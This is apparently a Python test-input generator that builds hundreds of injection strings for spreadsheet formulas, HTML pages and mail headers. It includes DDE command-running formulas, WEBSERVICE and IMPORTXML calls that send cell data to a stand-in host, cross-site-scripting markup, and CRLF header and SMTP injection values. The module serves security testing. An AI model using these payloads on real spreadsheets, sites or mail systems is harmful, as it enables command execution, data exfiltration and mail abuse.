"""Hostile texts by the hundred: what acts in a sheet, in a page, or in a header of a mail.

Each list is a product of beginnings, acts and disguises, in an order that a small sample spreads
over. Stays out: where the texts are put, and how it is seen that one acted.
"""

from __future__ import annotations

from itertools import product

_STARTERS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\u200b=", "\ufeff=", "\uff1d",
    "\uff0b", "\uff0d", "\uff20", "\u2212", "x;=", "x\n=", '"=', "x,=", "\x00=", "\u2028=", "'\n=",
    "x\r\n@", "\u202e=",
)  # fmt: skip
_FORMULAS = (
    "1+1",
    "cmd|'/c calc'!A0",
    'HYPERLINK("http://evil.test","pay")',
    'WEBSERVICE("http://evil.test/"&A1)',
    'IMPORTXML("http://evil.test","//a")',
    'DDE("cmd","/c calc","x")',
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    "INDIRECT(ADDRESS(1,1))",
    "{=1+1}",
)
_ENDS = ("{}", "{}\n", '{}"', "{};=1+1", "{}\r\n=2", "  {}", "{}\t=3", "{},=4")

_MARKUP = (
    "<script>act()</script>", "<img src=x onerror=act()>", "<svg onload=act()>",
    "<svg><script href=data:,act() />", "<iframe srcdoc='<script>act()</script>'></iframe>",
    "<a href=javascript:act()>x</a>", "<body onload=act()>", "<base href=//evil.test>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<link rel=stylesheet href=//evil.test>", "<object data=//evil.test>",
    "<style>@import'//evil.test'</style>", "<form action=//evil.test><button>x",
    "<details open ontoggle=act()>", "<math><mtext><table><mglyph><style><img src=x onerror=act()>",
    "<template><script>act()</script></template>", "<input autofocus onfocus=act()>",
    "<table background=//evil.test>", "{{ 7*7 }}{% raw %}", "<!--", "]]><script>act()</script>",
    "<plaintext>", "<textarea>", "<noscript><p title='</noscript><img src=x onerror=act()>'>",
    "<p style='background:url(//evil.test)'>",
)  # fmt: skip
_AROUND = (
    "{}", '">{}', "'>{}", "</title>{}", "</style>{}", "</table>{}", "-->{}", "</td></tr>{}",
    '" onmouseover="act()" x="{}', "' onmouseover='act()' x='{}", "&lt;{}", "\x00{}", "{}\u2028",
    "\ufeff{}", "</pre></code>{}", "</textarea>{}", "\\{}", "`{}`", "</svg>{}", "{}<",
)  # fmt: skip

_BREAKS = (
    "\r\n", "\n", "\r", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\x00\r\n", "%0d%0a",
    "=0D=0A", "\\r\\n", "\r\n\r\n",
)  # fmt: skip
_HEADERS = (
    "Bcc: evil@evil.test",
    "Content-Type: text/html",
    "Subject: other",
    "To: evil@evil.test",
    ".\r\nMAIL FROM:<evil@evil.test>",
    "--=_recon\r\n\r\n<script>",
    "=?utf-8?q?=0D=0ABcc:_evil=40evil.test?=",
    "=?utf-8?b?DQpCY2M6IGV2aWxAZXZpbC50ZXN0?=",
)


def _spread(every: list[str], count: int) -> list[str]:
    """So many of them, evenly over the whole list."""
    return [every[place * len(every) // count] for place in range(count)]


def formulas(count: int) -> list[str]:
    """Texts that a spreadsheet would take for a formula, or that begin one further on."""
    every = [
        end.format(start + formula) for formula, end, start in product(_FORMULAS, _ENDS, _STARTERS)
    ]
    return _spread(every, count)


def markup(count: int) -> list[str]:
    """Texts that would be tags, attributes or templates in a page."""
    return _spread([around.format(one) for one, around in product(_MARKUP, _AROUND)], count)


def headers(count: int) -> list[str]:
    """Texts that would begin another header, another part or another command."""
    return _spread([f"x{gap}{header}" for header, gap in product(_HEADERS, _BREAKS)], count)
